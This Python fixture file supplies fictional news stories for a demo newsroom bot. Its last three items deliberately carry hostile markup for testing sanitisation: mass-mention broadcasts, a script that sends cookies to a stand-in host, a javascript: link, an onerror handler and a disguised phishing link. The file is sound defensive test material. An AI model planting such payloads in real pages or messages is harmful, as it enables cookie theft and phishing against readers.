"""The demo newsroom's fictional wire copy: every outlet, city, person and quote here is invented.

Most stories concern summit and security news so the demo topics match them; some (sport,
weather, culture, elections) match no topic so filtering visibly matters. A few items are
deliberately hostile (see ``SAFETY_SLUGS``) to show that Herald neutralises feed text.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Story:
    """One fictional news story.

    ``body`` is plain text. ``html``, when set, is the markup feeds carry instead of the escaped
    body (light formatting, or hostile markup for the safety demonstrations). ``alt_title`` is how
    a second outlet words the headline when it runs the same story. ``image`` is a path on the
    newsroom server itself.
    """

    slug: str
    title: str
    body: str
    categories: tuple[str, ...]
    image: str | None = None
    alt_title: str | None = None
    html: str | None = None


def _img(slug: str) -> str:
    return f"/img/{slug}.png"


# Stories that exist to prove the bot's defences; the newsroom keeps them out of the initial
# (already-seen) batch so the demo always shows them being neutralised.
SAFETY_SLUGS: frozenset[str] = frozenset(
    {"harbour-lockdown-extended", "ministry-cyber-statement", "ministers-urgent-notice"}
)

STORIES: tuple[Story, ...] = (
    Story(
        "nato-summit-opens-valmora",
        "NATO leaders gather in Valmora as summit opens under tight security",
        "Heads of government from across the alliance arrived in Valmora on Tuesday for a two-day "
        "NATO summit. Police closed the old harbour district and suspended ferry traffic until "
        "Thursday. Organisers said the agenda would focus on air defence and support for eastern "
        "members.",
        ("NATO", "Summit"),
        _img("nato-summit-opens-valmora"),
        "Valmora summit: alliance leaders arrive as harbour district is sealed off",
    ),
    Story(
        "defence-ministers-ammunition-pledge",
        "Defence ministers pledge to double ammunition output by 2028",
        "Meeting on the sidelines of the summit, defence ministers agreed a joint target to double "
        "artillery ammunition production within three years. Nordhaven's minister, Ilse "
        "Marquardt, called the pledge “a floor, not a ceiling”. Industry groups warned that new "
        "factories would need long-term contracts.",
        ("Defence", "Summit"),
        _img("defence-ministers-ammunition-pledge"),
        "Ministers agree to double artillery shell production within three years",
        "<p>Meeting on the sidelines of the summit, <strong>defence ministers</strong> agreed a "
        "joint target to double artillery ammunition production within three years.</p>"
        "<p>Nordhaven's minister, Ilse Marquardt, called the pledge <em>“a floor, not a "
        "ceiling”</em>. Industry groups warned that new factories would need long-term "
        "contracts.</p>",
    ),
    Story(
        "eu-sanctions-shadow-shipping",
        "European Council backs new sanctions package targeting shadow shipping",
        "Ministers meeting in Brussels approved a sanctions package aimed at shadow shipping "
        "networks and the insurers behind them. The measures freeze the assets of eleven companies "
        "registered in Port Aldric and two other harbour cities. Diplomats said further listings "
        "could follow in the spring.",
        ("EU", "Sanctions"),
        _img("eu-sanctions-shadow-shipping"),
        "Brussels freezes assets of eleven shipping firms in new sanctions round",
    ),
    Story(
        "ransomware-port-aldric-cargo",
        "Ransomware attack halts cargo bookings at Port Aldric",
        "A ransomware attack forced the Port Aldric authority to take its cargo booking system "
        "offline overnight. Lorries queued for several kilometres as staff reverted to paper "
        "manifests. The national cyber security centre said it was assisting with recovery and "
        "that no ransom would be paid.",
        ("Cyber security", "Ports"),
        _img("ransomware-port-aldric-cargo"),
        "Port Aldric cargo system offline after ransomware hit",
    ),
    Story(
        "lindholm-ceasefire-talks",
        "Foreign ministers open ceasefire talks in Lindholm",
        "Foreign ministers from six countries opened talks in Lindholm aimed at extending a "
        "fragile ceasefire along the Marenna river. The host, Foreign Minister Tomas Vey, said the "
        "first session had been “frank and long”. A joint statement is expected on Friday.",
        ("Diplomacy",),
        _img("lindholm-ceasefire-talks"),
        "Six-nation ceasefire negotiations begin in Lindholm",
    ),
    Story(
        "kestrel-bay-cup-final",
        "Kestrel Bay win the cup final on penalties",
        "Kestrel Bay beat Oskarsby Rovers 5–4 on penalties after a goalless final in front of "
        "31,000 fans. Goalkeeper Ruben Axelsen saved two spot kicks. The club last lifted the "
        "trophy in 1998.",
        ("Sport", "Football"),
        _img("kestrel-bay-cup-final"),
        "Axelsen the hero as Kestrel Bay lift the cup",
    ),
    Story(
        "storm-warning-western-coast",
        "Storm warning issued for the western coast",
        "The national weather office issued an amber warning for gusts of up to 110 km/h along the "
        "western coast from Wednesday evening. Ferry operators cancelled late crossings to the "
        "islands. Forecasters expect the storm to clear by Thursday afternoon.",
        ("Weather",),
        _img("storm-warning-western-coast"),
        "Amber wind warning: gusts of 110 km/h expected on the west coast",
    ),
    Story(
        "missile-verification-draft",
        "Negotiators agree draft inspection regime for medium-range missiles",
        "After eight months of talks in Castelbrun, arms control negotiators agreed a draft "
        "inspection regime for medium-range missile sites. Each side could request up to twelve "
        "short-notice inspections a year. The text still needs approval from both governments.",
        ("Arms control",),
        None,
        "Castelbrun draft would allow twelve snap missile-site inspections a year",
    ),
    Story(
        "phishing-accreditation-emails",
        "Phishing campaign targets defence ministry staff with fake summit passes",
        "The cyber security firm Greyfen Labs said a phishing campaign had targeted staff at three "
        "defence ministries with fake summit accreditation emails. The messages linked to a cloned "
        "login page. No systems are known to have been compromised.",
        ("Cyber security", "Defence"),
        _img("phishing-accreditation-emails"),
        "Fake summit accreditation emails used to phish ministry staff, researchers say",
    ),
    Story(
        "eu-joint-procurement-fund",
        "EU proposes joint fund for air defence purchases",
        "The European Commission proposed a joint fund to help member states buy air defence "
        "systems together. Commissioner Aurelio Bastos said common orders would cut prices and "
        "delivery times. The proposal goes to the European Council in June.",
        ("EU", "Defence"),
        _img("eu-joint-procurement-fund"),
        "Brussels plans shared budget so member states can buy air defence together",
    ),
    Story(
        "port-aldric-film-festival",
        "Harbour film festival opens with a restored silent classic",
        "The Port Aldric film festival opened on Friday with a restored silent film accompanied by "
        "a live orchestra. Organisers sold a record 48,000 tickets. This year's programme features "
        "120 films from 40 countries.",
        ("Culture", "Film"),
        _img("port-aldric-film-festival"),
        "Silent film and live orchestra open record-breaking Port Aldric festival",
    ),
    Story(
        "nordhaven-election-results",
        "Nordhaven election: centre-right bloc edges ahead",
        "With nearly all votes counted, the centre-right bloc led by Jonas Ferrante held a narrow "
        "lead in Nordhaven's parliamentary election. Turnout reached 74 percent, the highest in "
        "two decades. Coalition negotiations are expected to take weeks.",
        ("Elections",),
        None,
        "Ferrante's bloc narrowly ahead as Nordhaven count nears completion",
    ),
    Story(
        "air-policing-northern-flank",
        "NATO extends air policing mission on its northern flank",
        "NATO will keep its air policing mission on the northern flank running for another year, "
        "officials said. Fighter jets from four members will rotate through the Skarholm air "
        "base. The mission intercepted 62 unidentified aircraft last year.",
        ("NATO",),
        _img("air-policing-northern-flank"),
        "Northern flank air policing mission extended for another year",
    ),
    Story(
        "veltrava-embassy-staff",
        "Embassy in Veltrava cuts staff amid week of protests",
        "The foreign ministry ordered non-essential staff to leave its embassy in Veltrava after a "
        "week of protests outside the building. The ambassador will remain in the city. Travel "
        "advice was updated to warn against all but essential travel.",
        ("Diplomacy", "Travel"),
        _img("veltrava-embassy-staff"),
        "Non-essential staff withdrawn from Veltrava mission as protests continue",
    ),
    Story(
        "tour-of-marenna-mountain-stage",
        "Mountain stage shakes up the Tour of Marenna",
        "Climber Elena Brask won the queen stage of the Tour of Marenna to take the leader's "
        "jersey. She attacked on the final ascent and finished 48 seconds clear. The race ends in "
        "Valmora on Sunday.",
        ("Sport", "Cycling"),
        _img("tour-of-marenna-mountain-stage"),
        "Brask takes the leader's jersey with queen-stage win",
    ),
    Story(
        "summit-website-ddos",
        "Summit website knocked offline by denial-of-service attack",
        "The official summit website was unreachable for about forty minutes on Tuesday after a "
        "distributed denial-of-service attack. A hacking group claimed responsibility on a "
        "messaging channel. Officials said no internal systems were affected.",
        ("Cyber security", "Summit"),
        None,
        "Forty-minute outage hits summit site as hacking group claims attack",
    ),
    Story(
        "castelbrun-military-budget",
        "Castelbrun parliament approves record military budget",
        "Lawmakers in Castelbrun approved a military budget equal to 2.4 percent of economic "
        "output, the highest in three decades. Most of the increase will go to air defence and "
        "recruitment. The opposition abstained.",
        ("Defence", "Politics"),
        _img("castelbrun-military-budget"),
        "Record spending on the military passes Castelbrun vote",
    ),
    Story(
        "brussels-asylum-no-deal",
        "Brussels meeting ends without deal on asylum reform",
        "European Union leaders ended a two-day meeting in Brussels without agreeing on reforms to "
        "the asylum system. Several leaders said talks would continue at the next European Council "
        "in October. The presidency called the outcome “a pause, not a failure”.",
        ("EU", "Migration"),
        _img("brussels-asylum-no-deal"),
        "No asylum deal as leaders leave Brussels, more negotiation planned for October",
    ),
    Story(
        "sollera-heat-record",
        "Heat record broken in Sollera",
        "Temperatures reached 41.3C in Sollera on Monday, breaking a record set in 2019. "
        "Authorities opened cooling centres in libraries and schools. Relief is expected at the "
        "weekend.",
        ("Weather",),
        None,
        "Sollera swelters as thermometer hits 41.3C",
    ),
    Story(
        "alliance-deputy-faster-decisions",
        "Alliance deputy chief calls for faster decisions on eastern deployments",
        "The alliance's deputy secretary general, Annelise Hovde, urged members to speed up "
        "decisions on deploying forces to the east. She said planning cycles of eighteen months "
        "were “too slow for the threats we face”. Her remarks came ahead of a closed session of "
        "the North Atlantic Council.",
        ("NATO",),
        None,
        "Hovde: eighteen-month planning cycles are too slow",
    ),
    Story(
        "water-utility-intrusion",
        "Water utility restores systems after cyber intrusion",
        "The Oskarsby water utility said it had restored its billing and monitoring systems after "
        "a cyber intrusion detected last week. Drinking water was never at risk, the company said. "
        "Investigators believe the attackers entered through a contractor's remote-access account.",
        ("Cyber security", "Utilities"),
        _img("water-utility-intrusion"),
        "Oskarsby water company back online after intrusion via contractor account",
    ),
    Story(
        "envoy-marenna-dam",
        "Veteran diplomat named envoy to Marenna dam dispute",
        "The government named veteran diplomat Hana Okafor-Lind as special envoy to the dispute "
        "over the Marenna dam. She previously led trade negotiations with the island states. Her "
        "first visit is planned for next week.",
        ("Diplomacy",),
        None,
        "Okafor-Lind appointed special envoy on Marenna dam",
    ),
    Story(
        "national-museum-reopens",
        "National museum reopens after five-year renovation",
        "The National Museum in Valmora reopened its doors on Saturday after a five-year "
        "renovation. Visitors queued from dawn to see the restored glass roof. Entry is free for "
        "the first month.",
        ("Culture",),
        _img("national-museum-reopens"),
        "Queues at dawn as Valmora's National Museum reopens",
    ),
    Story(
        "eu-dual-use-export-rules",
        "EU tightens export rules for dual-use electronics",
        "The European Union will require exporters to certify the final destination of dual-use "
        "electronics, officials in Brussels said. Customs agencies will share data in real time. "
        "The rules take effect in September.",
        ("EU", "Trade"),
        None,
        "Exporters of dual-use chips must certify end users under new Brussels rules",
    ),
    Story(
        "northern-shield-exercise",
        "Twenty thousand troops join Northern Shield exercise",
        "More than 20,000 troops from fourteen allies are taking part in the Northern Shield "
        "military exercise across Nordhaven and the Skarholm archipelago. The drills test how "
        "quickly reinforcements can cross the sea. The exercise runs until the end of the month.",
        ("NATO", "Defence"),
        _img("northern-shield-exercise"),
        "Northern Shield drills test reinforcement across the Skarholm archipelago",
    ),
    Story(
        "final-televised-debate",
        "Candidates clash over housing in final televised debate",
        "The four leading candidates clashed over rents and housebuilding in the last televised "
        "debate before Sunday's vote. Polls suggest a fifth of voters are still undecided. "
        "Polling stations open at 7 a.m.",
        ("Elections",),
        None,
        "Housing dominates last debate before Sunday's vote",
    ),
    Story(
        "hospital-ransomware-surgeries",
        "Hospital group hit by ransomware postpones surgeries",
        "A regional hospital group in Lindholm postponed dozens of planned operations after "
        "ransomware encrypted its scheduling servers. Emergency departments remained open. The "
        "group said patient records appeared to be intact.",
        ("Cyber security", "Health"),
        _img("hospital-ransomware-surgeries"),
        "Lindholm hospitals delay operations after servers encrypted",
    ),
    Story(
        "valmora-eu-presidency",
        "Valmora government takes over rotating EU presidency",
        "The Valmora government took over the rotating presidency of the Council of the EU on "
        "Wednesday. Its programme lists energy security, enlargement and digital rules as "
        "priorities. The first informal ministerial meeting is planned for Port Aldric.",
        ("EU",),
        _img("valmora-eu-presidency"),
        "Energy and enlargement top agenda as Valmora starts six months at the helm in Brussels",
    ),
    Story(
        "drone-standards-agreed",
        "Defence ministers agree common standards for military drones",
        "Defence ministers from the alliance agreed common technical standards for small military "
        "drones, so that spare parts and ground stations can be shared. The standards will be "
        "phased in over two years.",
        ("Defence", "NATO"),
        None,
        "Shared drone standards will let forces swap parts and ground stations",
    ),
    Story(
        "aid-workers-freed",
        "Two aid workers freed after months of quiet diplomacy",
        "Two aid workers held for five months near the Veltrava border were released on Sunday "
        "and flown to Lindholm. Officials credited months of quiet diplomacy by intermediaries. "
        "Both were said to be in good health.",
        ("Diplomacy",),
        _img("aid-workers-freed"),
        "Aid workers held near Veltrava border released and flown to Lindholm",
    ),
    Story(
        "solo-sailor-atlantic-record",
        "Solo sailor completes Atlantic crossing in record time",
        "Yachtswoman Ingrid Solberg-Raye crossed the Atlantic alone in 8 days and 6 hours, "
        "beating the previous record by half a day. She arrived in Kestrel Bay to a flotilla of "
        "small boats. Her trimaran lost a rudder on day three.",
        ("Sport", "Sailing"),
        _img("solo-sailor-atlantic-record"),
        "Solberg-Raye smashes solo crossing record despite losing a rudder",
    ),
    Story(
        "lindholm-oskarsby-rail-floods",
        "Flooding closes rail line between Lindholm and Oskarsby",
        "Heavy rain flooded a section of track near Oskarsby, closing the main rail line to "
        "Lindholm. Replacement buses are running. The operator expects the line to reopen on "
        "Thursday.",
        ("Weather", "Transport"),
        None,
        "Replacement buses as floodwater closes Lindholm–Oskarsby line",
    ),
    Story(
        "treaty-review-conference",
        "Arms control treaty review conference opens in Castelbrun",
        "Delegates from 90 states gathered in Castelbrun for a four-week review of the "
        "non-proliferation treaty. Diplomats expect sharp disagreements over verification. The "
        "last review conference ended without a final document.",
        ("Arms control", "Diplomacy"),
        _img("treaty-review-conference"),
        "Ninety states meet in Castelbrun to review non-proliferation treaty",
    ),
    Story(
        "election-hacking-warning",
        "Election officials warn of hacking attempts before Nordhaven vote",
        "Nordhaven's election authority said it had blocked several hacking attempts against its "
        "results website in the past week. Paper ballots remain the official count. Officials "
        "urged voters to rely only on the authority's own announcements.",
        ("Elections", "Cyber security"),
        None,
        "Nordhaven vote: results site repelled several intrusion attempts",
    ),
    Story(
        "summit-communique-spending",
        "Summit communiqué commits allies to new defence spending target",
        "The final communiqué of the Valmora summit commits allies to raise defence spending to "
        "3 percent of economic output within five years. Several smaller members asked for a "
        "longer timetable. The text also promises a review of air defence stocks.",
        ("NATO", "Defence", "Summit"),
        _img("summit-communique-spending"),
        "Valmora communiqué: 3 percent spending goal within five years",
    ),
    Story(
        "jazz-pianist-music-prize",
        "Jazz pianist wins national music prize",
        "Pianist Teodor Malm won this year's national music prize for his album of reworked folk "
        "songs. The jury praised its “patient, luminous” arrangements. He will tour twelve cities "
        "in the autumn.",
        ("Culture", "Music"),
        None,
        "Malm's folk-song album takes top music award",
    ),
    Story(
        "eu-marenna-accession-talks",
        "EU opens accession talks with Marenna",
        "The European Union formally opened accession talks with Marenna at a ceremony in "
        "Brussels. Negotiators warned that the process would take years. Marenna's prime minister "
        "called it “the first page of a long book”.",
        ("EU", "Diplomacy"),
        None,
        "Marenna starts membership negotiations in Brussels",
    ),
    Story(
        "navy-frigates-order",
        "Navy orders four frigates from Port Aldric yard",
        "The defence ministry signed a contract for four frigates to be built at the Port Aldric "
        "shipyard. The first ship is due in 2031. The order secures about 3,000 jobs.",
        ("Defence", "Industry"),
        _img("navy-frigates-order"),
        "Port Aldric shipyard wins four-frigate contract",
    ),
    Story(
        "router-patch-urgent",
        "Agency urges urgent patch for widely used office routers",
        "The national cyber security agency urged businesses to patch a flaw in a popular brand "
        "of office routers that is being actively exploited. Attackers can take control of "
        "unpatched devices remotely. A fix was released on Monday.",
        ("Cyber security",),
        _img("router-patch-urgent"),
        "Patch now: actively exploited flaw found in office routers",
    ),
    Story(
        "downhill-surprise-win",
        "Home skier takes surprise downhill win",
        "Nils Ekdahl, ranked 41st, won the downhill on his home slope above Skarholm. Fog delayed "
        "the start by an hour. The favourites finished outside the top ten.",
        ("Sport", "Skiing"),
        None,
        "Ekdahl, ranked 41st, stuns favourites in Skarholm downhill",
    ),
    Story(
        "valmora-airport-snow",
        "Early snow disrupts flights at Valmora airport",
        "An early snowfall forced Valmora airport to close one of its two runways on Tuesday "
        "morning. Dozens of flights were delayed. De-icing crews worked through the night.",
        ("Weather", "Transport"),
        _img("valmora-airport-snow"),
        "Snow closes a runway at Valmora, dozens of flights delayed",
    ),
    Story(
        "leaders-bilateral-sidelines",
        "Nordhaven and Veltrava leaders meet on NATO summit sidelines",
        "The prime ministers of Nordhaven and Veltrava met for forty minutes on the sidelines of "
        "the NATO summit, their first meeting in three years. Their foreign ministers will "
        "continue talks next month.",
        ("Diplomacy", "NATO"),
        _img("leaders-bilateral-sidelines"),
        "First meeting in three years for Nordhaven and Veltrava leaders",
    ),
    Story(
        "coast-guard-boards-tanker",
        "Coast guard boards tanker suspected of breaking sanctions",
        "The coast guard boarded a tanker off Kestrel Bay suspected of carrying cargo in breach of "
        "sanctions. The crew of 22 was not detained. Inspectors are checking the ship's papers.",
        ("Sanctions", "Maritime"),
        None,
        "Tanker searched off Kestrel Bay over suspected sanctions breach",
    ),
    Story(
        "veltrava-youth-turnout",
        "Youth turnout surges in Veltrava local elections",
        "Turnout among voters under 25 rose to 61 percent in Veltrava's local elections, up from "
        "38 percent four years ago. Analysts credited a campaign on public transport fares. Final "
        "results are due on Wednesday.",
        ("Elections",),
        None,
        "Under-25s turn out in record numbers for Veltrava local polls",
    ),
    Story(
        "ransomware-gang-arrests",
        "Police arrest three suspects over ransomware gang",
        "Police in Oskarsby arrested three people suspected of running a ransomware gang that hit "
        "more than 200 companies. Servers were seized in two countries. Prosecutors said the "
        "group had earned millions in cryptocurrency.",
        ("Cyber security", "Crime"),
        _img("ransomware-gang-arrests"),
        "Three held in Oskarsby as ransomware servers seized",
    ),
    Story(
        "lindholm-book-fair",
        "Lindholm book fair draws record crowds",
        "More than 90,000 visitors attended the Lindholm book fair over four days, a record. "
        "Translated crime fiction was the best-selling category. Next year's guest country will be "
        "announced in spring.",
        ("Culture", "Books"),
        _img("lindholm-book-fair"),
        "Record 90,000 visitors at Lindholm book fair",
    ),
    Story(
        "armed-forces-recruitment-miss",
        "Armed forces miss recruitment target for third year",
        "The armed forces recruited 7,800 new personnel last year, short of a target of 10,000. "
        "Officials blamed a tight labour market and slow medical checks. A faster application "
        "process starts in April.",
        ("Defence",),
        None,
        "Recruitment shortfall persists for a third year",
        "<p>The armed forces recruited <strong>7,800</strong> new personnel last year, short of a "
        "target of 10,000.</p><p>Officials blamed a tight labour market &amp; slow medical checks. "
        'A <a href="/articles/armed-forces-recruitment-miss">faster application process</a> '
        "starts in April.</p>",
    ),
    Story(
        "eu-gas-storage-target",
        "EU energy ministers agree winter gas storage target",
        "Energy ministers meeting in Brussels agreed to fill gas storage to 85 percent before "
        "winter. Countries with little storage may count supplies held abroad. The target is "
        "lower than last year's.",
        ("EU", "Energy"),
        _img("eu-gas-storage-target"),
        "Member states set 85 percent gas storage goal for winter",
    ),
    Story(
        "skarholm-cyber-defence-centre",
        "Alliance opens cyber defence centre in Skarholm",
        "NATO opened a cyber defence centre in Skarholm that will train specialists from all "
        "members. The centre will run exercises simulating attacks on power grids and ports. About "
        "150 staff will work there by next year.",
        ("NATO", "Cyber security", "Defence"),
        _img("skarholm-cyber-defence-centre"),
        "Skarholm centre to train specialists in protecting grids and ports",
    ),
    Story(
        "harbour-marathon",
        "Thousands run the Port Aldric harbour marathon",
        "About 14,000 runners took part in the Port Aldric harbour marathon on Sunday. Local "
        "runner Sami Lehtonen won the men's race in 2:11:40. The women's race went to Dora "
        "Kallas.",
        ("Sport", "Athletics"),
        _img("harbour-marathon"),
        "Lehtonen and Kallas win Port Aldric marathon",
    ),
    # --- Safety demonstrations: hostile-but-fictional items the bot must neutralise. ---------
    # Mass mentions in a headline: Discord @everyone and Slack <!channel>/<!here> broadcasts.
    Story(
        "harbour-lockdown-extended",
        "@everyone Harbour lockdown around NATO summit extended <!channel> <!here>",
        "Police in Valmora extended the harbour lockdown around the NATO summit venue by one day. "
        "Ferry services to the islands remain suspended. Residents with passes may still enter the "
        "old harbour district.",
        ("NATO", "Summit"),
        _img("harbour-lockdown-extended"),
        "Valmora harbour closure prolonged by a day @here",
    ),
    # Script injection, a javascript: link and an onerror handler inside the summary markup.
    Story(
        "ministry-cyber-statement",
        "Ministry publishes statement on cyber incident",
        "The interior ministry published a statement on last week's cyber incident. It said no "
        "personal data had been taken. A full report is promised within a month.",
        ("Cyber security",),
        None,
        "Interior ministry says no personal data lost in cyber incident",
        "<p>The interior ministry published a statement on last week's cyber incident.</p>"
        '<script>document.title = "pwned"; fetch("https://collector.invalid/?c=" + '
        "document.cookie);</script>"
        "<p><a href=\"javascript:alert('pwned')\">Read the full statement</a></p>"
        '<img src="/img/missing.png" onerror="alert(1)">'
        "<p>It said no personal data had been taken.</p>",
    ),
    # Markdown/mrkdwn injection: a role mention, a masked phishing link in both platforms' syntax.
    Story(
        "ministers-urgent-notice",
        "Defence ministers: read the [official notice](https://phish.invalid/login) "
        "<https://phish.invalid/login|now> **URGENT** <@&123456789012345678>",
        "Defence ministers issued a notice about accreditation changes for the summit. Delegates "
        "must collect new passes at the press centre. Old passes expire at midnight.",
        ("Defence", "Summit"),
        None,
        "Summit delegates told to swap passes by midnight",
    ),
)
